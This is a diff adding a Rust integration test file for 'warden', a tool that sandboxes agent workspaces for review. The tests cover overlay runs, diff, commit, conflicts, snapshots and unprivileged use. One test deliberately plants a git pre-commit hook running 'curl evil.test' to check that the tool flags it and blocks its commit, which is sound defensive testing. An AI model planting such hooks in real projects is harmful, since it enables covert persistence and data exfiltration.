@@ -1,0 +1,447 @@
+//! Reviewable workspaces through the real command: overlay runs that leave
+//! the project untouched, named sandboxes, diff, commit with conflicts and
+//! flags, discard, snapshots; as root and as an unprivileged user.
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
+
+mod common;
+use common::*;
+use std::path::Path;
+use std::process::{Command, Output, Stdio};
+
+/// warden with its state in `state` (so tests do not share sandboxes).
+fn warden(state: &Path, args: &[&str]) -> Output {
+    Command::new(warden_bin())
+        .args(args)
+        .env("WARDEN_STATE_DIR", state.join("warden"))
+        .stdin(Stdio::null())
+        .output()
+        .unwrap()
+}
+
+fn ok(o: &Output) -> String {
+    assert!(
+        o.status.success(),
+        "status {:?}\nstdout: {}\nstderr: {}",
+        o.status.code(),
+        stdout(o),
+        stderr(o)
+    );
+    stdout(o)
+}
+
+/// A listing of a tree that two equal trees share byte for byte: every
+/// path with its type, mode, and content hash or link target.
+const TREE_LISTING: &str = r#"find . -path ./.git -prune -o -mindepth 1 -print0 | sort -z | while IFS= read -r -d '' p; do
+  if [ -L "$p" ]; then echo "L $p -> $(readlink "$p")";
+  elif [ -d "$p" ]; then echo "D $p $(stat -c %a "$p")";
+  else echo "F $p $(stat -c %a "$p") $(sha256sum < "$p" | cut -c1-16)"; fi
+done"#;
+
+fn host_listing(dir: &Path) -> String {
+    let out = Command::new("bash")
+        .args(["-c", TREE_LISTING])
+        .current_dir(dir)
+        .output()
+        .unwrap();
+    ok(&out)
+}
+
+/// A small Python project under git, as an agent would get it.
+fn project(dir: &Path) {
+    std::fs::create_dir_all(dir.join("src/app")).unwrap();
+    std::fs::write(dir.join("src/app/__init__.py"), "").unwrap();
+    std::fs::write(
+        dir.join("src/app/core.py"),
+        "def add(a, b):\n    return a + b\n",
+    )
+    .unwrap();
+    std::fs::write(dir.join("README.md"), "# app\n").unwrap();
+    std::fs::write(
+        dir.join("build.sh"),
+        "#!/bin/sh\npython3 -m compileall -q src\n",
+    )
+    .unwrap();
+    let git = |args: &[&str]| {
+        Command::new("git")
+            .args(args)
+            .current_dir(dir)
+            .env("GIT_AUTHOR_NAME", "t")
+            .env("GIT_AUTHOR_EMAIL", "t@t")
+            .env("GIT_COMMITTER_NAME", "t")
+            .env("GIT_COMMITTER_EMAIL", "t@t")
+            .output()
+            .map(|o| o.status.success())
+            .unwrap_or(false)
+    };
+    if !(git(&["init", "-q"]) && git(&["add", "."]) && git(&["commit", "-qm", "init"])) {
+        skip("git is not available: the project is not a git checkout");
+    }
+}
+
+#[test]
+fn an_overlay_run_leaves_the_project_untouched_and_keeps_the_changes_for_review() {
+    let state = TempDir::new("ws-state");
+    let proj = TempDir::new("ws-proj");
+    project(proj.path());
+    let before = host_listing(proj.path());
+    let out = warden(
+        state.path(),
+        &[
+            "run",
+            "--no-tty",
+            "--overlay",
+            "-w",
+            proj.str(),
+            "--",
+            "sh",
+            "-c",
+            "echo '# changed' >> README.md && rm src/app/core.py && echo new > NEW && cat README.md",
+        ],
+    );
+    assert!(ok(&out).contains("# changed"));
+    assert_eq!(
+        host_listing(proj.path()),
+        before,
+        "the real project was written"
+    );
+    let err = stderr(&out);
+    let name = err
+        .split("kept in sandbox ")
+        .nth(1)
+        .and_then(|r| r.split(',').next())
+        .unwrap_or_else(|| panic!("no sandbox named: {err}"))
+        .to_string();
+    let diff = ok(&warden(state.path(), &["diff", &name, "--color", "never"]));
+    assert!(diff.contains("modified     README.md"), "{diff}");
+    assert!(diff.contains("+# changed"), "{diff}");
+    assert!(diff.contains("deleted      src/app/core.py"), "{diff}");
+    assert!(diff.contains("added        NEW"), "{diff}");
+    // A run that changed nothing keeps nothing.
+    let out = warden(
+        state.path(),
+        &[
+            "run",
+            "--no-tty",
+            "--overlay",
+            "-w",
+            proj.str(),
+            "--",
+            "true",
+        ],
+    );
+    ok(&out);
+    assert!(
+        !stderr(&out).contains("kept in sandbox"),
+        "{}",
+        stderr(&out)
+    );
+    let ls = ok(&warden(state.path(), &["ls"]));
+    assert_eq!(ls.lines().count(), 2, "{ls}");
+}
+
+#[test]
+fn create_exec_diff_commit_applies_exactly_what_the_sandbox_saw() {
+    let state = TempDir::new("ws-cycle-state");
+    let proj = TempDir::new("ws-cycle-proj");
+    project(proj.path());
+    ok(&warden(
+        state.path(),
+        &["create", "cycle", "-w", proj.str()],
+    ));
+    // The agent builds and edits; a second exec sees the first one's work.
+    ok(&warden(
+        state.path(),
+        &[
+            "exec",
+            "cycle",
+            "--no-tty",
+            "--",
+            "sh",
+            "-c",
+            "sh build.sh && printf 'def sub(a, b):\\n    return a - b\\n' >> src/app/core.py && chmod 755 README.md && ln -s src/app/core.py core-link && mkdir 'with space' && printf 'x\\0y' > 'with space/bin file' && printf z > \"$(printf 'caf\\351')\" && rm build.sh",
+        ],
+    ));
+    let second = ok(&warden(
+        state.path(),
+        &[
+            "exec",
+            "cycle",
+            "--no-tty",
+            "--",
+            "sh",
+            "-c",
+            "ls src/app/__pycache__ | head -1; cat src/app/core.py",
+        ],
+    ));
+    assert!(second.contains(".pyc"), "{second}");
+    assert!(second.contains("def sub"), "{second}");
+    let inside = ok(&warden(
+        state.path(),
+        &[
+            "exec",
+            "cycle",
+            "--no-tty",
+            "--",
+            "bash",
+            "-c",
+            TREE_LISTING,
+        ],
+    ));
+    let json = ok(&warden(state.path(), &["diff", "cycle", "--json"]));
+    let changes: serde_json::Value = serde_json::from_str(&json).unwrap();
+    let kinds: Vec<(String, String)> = changes
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|c| {
+            (
+                c["path"].as_str().unwrap().to_string(),
+                c["kind"].as_str().unwrap().to_string(),
+            )
+        })
+        .collect();
+    for (path, kind) in [
+        ("src/app/core.py", "modified"),
+        ("README.md", "mode"),
+        ("core-link", "added"),
+        ("with space/bin file", "added"),
+        ("build.sh", "deleted"),
+    ] {
+        assert!(
+            kinds.contains(&(path.to_string(), kind.to_string())),
+            "{path} {kind} not in {kinds:?}"
+        );
+    }
+    let non_utf8 = changes
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|c| c["path_bytes"].is_array())
+        .unwrap_or_else(|| panic!("the non-UTF-8 name has no bytes: {json}"));
+    assert_eq!(
+        non_utf8["path_bytes"],
+        serde_json::json!([99, 97, 102, 233])
+    );
+    let binary = changes
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|c| c["path"] == "with space/bin file")
+        .unwrap();
+    assert_eq!(binary["content"]["type"], "binary", "{binary}");
+    ok(&warden(
+        state.path(),
+        &["commit", "cycle", "--accept-flagged"],
+    ));
+    assert_eq!(
+        host_listing(proj.path()),
+        inside,
+        "the commit is not what the sandbox saw"
+    );
+    assert!(ok(&warden(state.path(), &["diff", "cycle"])).contains("no changes"));
+    let log = state.path().join("warden/sandboxes/cycle/audit.jsonl");
+    let verify = warden(state.path(), &["audit", "verify", log.to_str().unwrap()]);
+    assert!(ok(&verify).contains("intact"));
+    let shown = ok(&warden(
+        state.path(),
+        &["audit", "show", log.to_str().unwrap()],
+    ));
+    assert!(shown.contains("workspace create cycle"), "{shown}");
+    assert!(shown.contains("workspace commit cycle"), "{shown}");
+}
+
+#[test]
+fn a_conflicting_change_on_the_host_makes_commit_refuse_and_leaves_both_sides() {
+    let state = TempDir::new("ws-conflict-state");
+    let proj = TempDir::new("ws-conflict-proj");
+    project(proj.path());
+    ok(&warden(state.path(), &["create", "c", "-w", proj.str()]));
+    ok(&warden(
+        state.path(),
+        &[
+            "exec",
+            "c",
+            "--no-tty",
+            "--",
+            "sh",
+            "-c",
+            "echo sandbox >> README.md && echo other > OTHER",
+        ],
+    ));
+    std::thread::sleep(std::time::Duration::from_millis(20));
+    std::fs::write(proj.path().join("README.md"), "# host edit\n").unwrap();
+    let out = warden(state.path(), &["commit", "c"]);
+    assert_eq!(out.status.code(), Some(125));
+    assert!(
+        stderr(&out).contains("README.md: changed on the host"),
+        "{}",
+        stderr(&out)
+    );
+    assert_eq!(
+        std::fs::read_to_string(proj.path().join("README.md")).unwrap(),
+        "# host edit\n"
+    );
+    assert!(
+        !proj.path().join("OTHER").exists(),
+        "part of the commit was applied"
+    );
+    let diff = ok(&warden(state.path(), &["diff", "c", "--color", "never"]));
+    assert!(diff.contains("+sandbox"), "{diff}");
+    // --force takes the sandbox's side.
+    ok(&warden(state.path(), &["commit", "c", "--force"]));
+    assert!(std::fs::read_to_string(proj.path().join("README.md"))
+        .unwrap()
+        .contains("sandbox"));
+}
+
+#[test]
+fn a_planted_git_hook_is_flagged_and_not_committed_without_consent() {
+    let state = TempDir::new("ws-hook-state");
+    let proj = TempDir::new("ws-hook-proj");
+    project(proj.path());
+    if !proj.path().join(".git/hooks").is_dir() {
+        std::fs::create_dir_all(proj.path().join(".git/hooks")).unwrap();
+    }
+    ok(&warden(state.path(), &["create", "h", "-w", proj.str()]));
+    ok(&warden(
+        state.path(),
+        &[
+            "exec",
+            "h",
+            "--no-tty",
+            "--",
+            "sh",
+            "-c",
+            "printf '#!/bin/sh\\ncurl evil.test\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && echo ok >> README.md",
+        ],
+    ));
+    let diff = ok(&warden(state.path(), &["diff", "h", "--color", "never"]));
+    assert!(diff.contains("! git-hook"), "{diff}");
+    let out = warden(state.path(), &["commit", "h"]);
+    assert_eq!(out.status.code(), Some(125), "{}", stdout(&out));
+    assert!(
+        stderr(&out).contains("--accept-flagged"),
+        "{}",
+        stderr(&out)
+    );
+    assert!(!proj.path().join(".git/hooks/pre-commit").exists());
+    // The unflagged change alone may go in by name.
+    ok(&warden(state.path(), &["commit", "h", "README.md"]));
+    assert!(std::fs::read_to_string(proj.path().join("README.md"))
+        .unwrap()
+        .contains("ok"));
+    assert!(!proj.path().join(".git/hooks/pre-commit").exists());
+}
+
+#[test]
+fn discard_snapshot_and_restore_move_the_changes_as_asked() {
+    let state = TempDir::new("ws-snap-state");
+    let proj = TempDir::new("ws-snap-proj");
+    project(proj.path());
+    ok(&warden(state.path(), &["create", "s", "-w", proj.str()]));
+    let exec = |script: &str| {
+        ok(&warden(
+            state.path(),
+            &["exec", "s", "--no-tty", "--", "sh", "-c", script],
+        ))
+    };
+    exec("echo one > A && echo two > B");
+    ok(&warden(state.path(), &["snapshot", "s", "first"]));
+    exec("rm A && echo three > C");
+    assert!(ok(&warden(state.path(), &["snapshot", "s", "--list"])).contains("first"));
+    ok(&warden(state.path(), &["discard", "s", "C"]));
+    assert_eq!(exec("ls A B C 2>/dev/null; true").trim(), "B");
+    ok(&warden(state.path(), &["restore", "s", "first"]));
+    assert_eq!(
+        exec("ls A B C 2>/dev/null; true")
+            .split_whitespace()
+            .collect::<Vec<_>>(),
+        ["A", "B"]
+    );
+    ok(&warden(state.path(), &["discard", "s"]));
+    assert!(ok(&warden(state.path(), &["diff", "s"])).contains("no changes"));
+    ok(&warden(state.path(), &["rm", "s"]));
+    assert_eq!(ok(&warden(state.path(), &["ls"])).lines().count(), 1);
+    assert!(proj.path().join("README.md").exists());
+    let out = warden(state.path(), &["exec", "s", "--", "true"]);
+    assert_eq!(out.status.code(), Some(125));
+    assert!(stderr(&out).contains("s"), "{}", stderr(&out));
+}
+
+#[test]
+fn bad_workspace_commands_get_a_clear_error_and_change_nothing() {
+    let state = TempDir::new("ws-bad-state");
+    let proj = TempDir::new("ws-bad-proj");
+    for (args, needle) in [
+        (vec!["create", "Bad Name", "-w", proj.str()], "lowercase"),
+        (
+            vec!["create", "x", "-w", "/nonexistent/dir"],
+            "/nonexistent/dir",
+        ),
+        (vec!["diff", "missing"], "missing"),
+        (vec!["run", "--overlay", "--", "true"], "--workspace"),
+    ] {
+        let out = warden(state.path(), &args);
+        assert_eq!(out.status.code(), Some(125), "{args:?}: {}", stdout(&out));
+        assert!(stderr(&out).contains(needle), "{args:?}: {}", stderr(&out));
+    }
+    ok(&warden(state.path(), &["create", "x", "-w", proj.str()]));
+    let out = warden(state.path(), &["create", "x", "-w", proj.str()]);
+    assert_eq!(out.status.code(), Some(125));
+    assert!(stderr(&out).contains("exists"), "{}", stderr(&out));
+    let out = warden(state.path(), &["exec", "x", "-w", proj.str(), "--", "true"]);
+    assert_eq!(out.status.code(), Some(125));
+    assert!(
+        stderr(&out).contains("leave out --workspace"),
+        "{}",
+        stderr(&out)
+    );
+}
+
+#[test]
+fn the_cycle_works_for_an_unprivileged_user() {
+    let Some(who) = Unprivileged::get() else {
+        skip("cannot get an unprivileged user to run warden as");
+        return;
+    };
+    let state = TempDir::new("ws-unpriv-state");
+    let proj = TempDir::new("ws-unpriv-proj");
+    std::fs::write(proj.path().join("file"), "original\n").unwrap();
+    for p in [state.path(), proj.path(), &proj.path().join("file")] {
+        who.own(p);
+    }
+    let run = |args: &[&str]| {
+        who.command(who.bin.to_str().unwrap())
+            .args(args)
+            .env("XDG_STATE_HOME", state.path())
+            .output()
+            .unwrap()
+    };
+    ok(&run(&["create", "u", "-w", proj.str()]));
+    ok(&run(&[
+        "exec",
+        "u",
+        "--no-tty",
+        "--allow-degraded",
+        "--",
+        "sh",
+        "-c",
+        "echo changed > file && echo new > added",
+    ]));
+    assert_eq!(
+        std::fs::read_to_string(proj.path().join("file")).unwrap(),
+        "original\n"
+    );
+    let diff = ok(&run(&["diff", "u", "--stat"]));
+    assert!(diff.contains("file") && diff.contains("added"), "{diff}");
+    ok(&run(&["commit", "u"]));
+    assert_eq!(
+        std::fs::read_to_string(proj.path().join("file")).unwrap(),
+        "changed\n"
+    );
+    assert_eq!(
+        std::fs::read_to_string(proj.path().join("added")).unwrap(),
+        "new\n"
+    );
+    ok(&run(&["rm", "u"]));
+}
